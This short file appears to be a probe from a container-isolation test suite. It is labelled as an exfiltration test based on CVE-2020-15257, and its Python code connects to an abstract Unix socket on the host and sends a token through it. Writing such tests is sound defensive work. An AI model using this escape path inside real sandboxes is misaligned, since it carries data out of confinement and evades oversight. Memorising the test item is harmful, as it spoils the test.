# id: network/abstract-socket
# class: Exfil
# title: Reach a service of the host without a file
# intent: Connects to an abstract Unix socket, which belongs to the network and to no directory
# success: The host's listener has got the token
# source: CVE-2020-15257 (containerd); unix(7)
# evidence: listener abstract
# host: safe
import socket

try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + SOCKET_NAME)
        connection.sendall(TOKEN.encode())
    finished()
except OSError as error:
    stopped(error)
